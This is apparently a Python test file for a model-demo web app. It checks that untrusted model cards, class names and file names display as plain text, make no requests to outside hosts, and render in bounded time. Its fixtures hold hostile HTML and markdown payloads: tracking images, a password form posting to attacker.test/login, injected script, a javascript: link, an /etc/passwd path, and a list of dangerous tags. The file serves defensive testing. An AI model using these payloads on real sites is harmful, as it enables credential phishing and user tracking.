"""Model cards and class names written by strangers: shown as text, and in bounded time."""

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import pytest
from demo_browser import choose, open_tab, opened, segment
from demo_server import draw_photo, needs_browser, served, tiny_segmenter
from PIL import Image

from demo.card import card_html, described, read_card
from demo.shown_models import ShownModels
from hfseg.errors import UserError

if TYPE_CHECKING:
    from playwright.sync_api import Browser

HOSTILE = """---
license: x
---
# Card
![far](http://attacker.test/1.png) ![reference][pic] [link](javascript:alert(1)) <http://ok.test/>
<input type=image src="http://attacker.test/2.png"><img src=http://attacker.test/3.png>
<div style="position:fixed;inset:0;background:url(http://attacker.test/4.png)">
<form action="http://attacker.test/login"><input type=password name=p></form></div>
<style>body { background: url(http://attacker.test/5.png) }</style><script>alert(1)</script>
<svg><image href="http://attacker.test/6.png"/></svg>

[pic]: http://attacker.test/7.png
"""
HOSTILE_NAMES = (
    "<img src=http://attacker.test/name.png>",
    "<form action=http://attacker.test><input type=password></form>",
    "![x](http://attacker.test/md.png)",
)
FETCHING = ("<img", "<input", "<form", "<style", "<svg", "<script", "<iframe", "<link", "<div")


def test_a_card_shows_html_as_text_and_fetches_nothing() -> None:
    page = card_html(HOSTILE)
    assert "<h1>Card</h1>" in page and "far" in page and "reference" in page
    assert not any(tag in page.lower() for tag in FETCHING)
    assert 'href="javascript' not in page.lower()
    assert '<a href="http://ok.test/" rel="noopener noreferrer" target="_blank">' in page


def test_a_card_brings_its_own_pictures_and_none_from_elsewhere(tmp_path) -> None:
    (tmp_path / "model" / "report").mkdir(parents=True)
    Image.new("RGB", (8, 8)).save(tmp_path / "own.png")
    Image.new("RGB", (8, 8)).save(tmp_path / "model" / "report" / "own.png")
    (tmp_path / "model" / "README.md").write_text(
        "# Card\n![mine](report/own.png) ![up](../own.png) ![far](http://a.b/c.png)"
        "\n![passwd](/etc/passwd)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    card = read_card(str(tmp_path / "model"))
    assert card.count("data:image/webp;base64,") == 1 and "<td>1</td>" in card
    assert "a.b" not in card and "/etc" not in card and "up" in card


@pytest.mark.parametrize("piece", ["![", "[", "*a", "`", "<", "![a](", "> ", "|a", "\n|a|\n|-|\n"])
def test_a_card_of_200_kb_of_markup_is_rendered_at_all(piece: str, tmp_path) -> None:
    """Rendered once for all visitors; before, 200 kB of `![` took 77 s at each view."""
    (tmp_path / "README.md").write_text(piece * (200_000 // len(piece)))
    models = ShownModels({"a": tiny_segmenter(("x", "y"))}, cards={"a": str(tmp_path)})
    start = time.monotonic()
    page = models.card("a")
    assert time.monotonic() - start < 60
    assert "left out" in page
    assert models.card("a") is page


def test_a_model_without_a_card_is_described_with_its_names_as_text() -> None:
    page = described("<b>model</b>", tiny_segmenter(("<img src=x>", "R&D")))
    assert page.startswith("<h1>&lt;b&gt;model&lt;/b&gt;</h1>")
    assert "&lt;img src=x&gt;, R&amp;D" in page and not any(tag in page for tag in FETCHING)


class Hostile(NamedTuple):
    """A page with a model whose card and class names try to reach another host."""

    address: str
    models: ShownModels
    attacker: str
    asked: list[str]
    """Paths that the attacker's host was asked for."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    folder = tmp_path_factory.mktemp("hostile")
    asked: list[str] = []

    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    attacker = HTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    host = f"127.0.0.1:{attacker.server_port}"
    names = tuple(name.replace("attacker.test", host) for name in HOSTILE_NAMES)
    (folder / "README.md").write_text(HOSTILE.replace("attacker.test", host))
    models = ShownModels({names[0]: tiny_segmenter(names)}, cards={names[0]: str(folder)})
    with served(models, folder / "page") as address:
        yield Hostile(address, models, host, asked)
    attacker.shutdown()


@needs_browser
def test_a_hostile_card_and_hostile_names_reach_no_other_host(
    browser: "Browser", hostile: Hostile, tmp_path: Path
) -> None:
    page = opened(browser, hostile.address)
    segment(page, draw_photo(tmp_path / "photo.png"))
    assert set(page.locator(".classes .name").all_inner_texts()) <= set(
        hostile.models.labels("").names
    )
    open_tab(page, "About")
    page.wait_for_selector("[data-is=card] h1")
    assert page.locator("input[type=password]").count() == 0
    assert page.problems == []
    # and were there markup after all, the browser itself would not fetch it
    page.evaluate(
        "host => document.body.append(Object.assign(new Image(), {src: `http://${host}/a`}))",
        hostile.attacker,
    )
    page.wait_for_function("() => [...document.images].at(-1).complete")
    page.close()
    assert hostile.asked == []


@needs_browser
def test_sentences_and_file_names_with_html_reach_the_page_as_text(
    browser: "Browser", hostile: Hostile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    markup = "<b id=injected>R&D</b>"

    def refuse(*args: object, **options: object) -> None:
        raise UserError(f"a class has the name {markup}")

    monkeypatch.setattr(hostile.models, "segment", refuse)
    page = opened(browser, hostile.address)
    choose(page, draw_photo(tmp_path / f"{markup.replace('/', '')}.png"))
    problem = page.wait_for_selector("[data-is=problem]:not([hidden])")
    assert problem.inner_text().splitlines()[0] == f"A class has the name {markup}."
    open_tab(page, "Batch")
    page.set_input_files("[data-is=images]", next(tmp_path.glob("*.png")))
    problem = page.wait_for_selector("[data-is=problem]:not([hidden])")
    assert markup in problem.inner_text()
    assert page.locator("#injected").count() == 0
    page.close()
